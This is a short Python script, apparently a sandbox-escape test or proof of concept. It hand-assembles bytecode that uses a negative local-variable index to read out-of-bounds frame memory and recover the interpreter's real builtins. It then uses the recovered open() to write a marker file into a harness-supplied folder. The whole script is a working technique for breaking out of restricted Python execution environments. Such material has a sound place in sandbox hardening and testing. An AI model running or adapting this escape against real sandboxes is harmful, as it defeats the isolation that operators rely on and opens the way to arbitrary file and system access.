# Reads a local variable with a negative number, which lies in the frame's own secrets: the real built-ins.
import sys


def script():
    pass


opcodes = {"resume": 151, "load": 124, "return": 83, "more": 144}
if sys.version_info >= (3, 13):
    opcodes = {"resume": 149, "load": 85, "return": 36, "more": 71}
place = -7 if sys.version_info < (3, 12) else -5
number = (place & 0xFFFFFFFF).to_bytes(4, "big")
more, load = opcodes["more"], opcodes["load"]
body = (opcodes["resume"], 0, more, number[0], more, number[1], more, number[2], load, number[3], opcodes["return"], 0)
script.__code__ = script.__code__.replace(co_code=bytes(body))
builtins = script()
builtins["open"](FOLDER + "/negative.txt", "w").close()
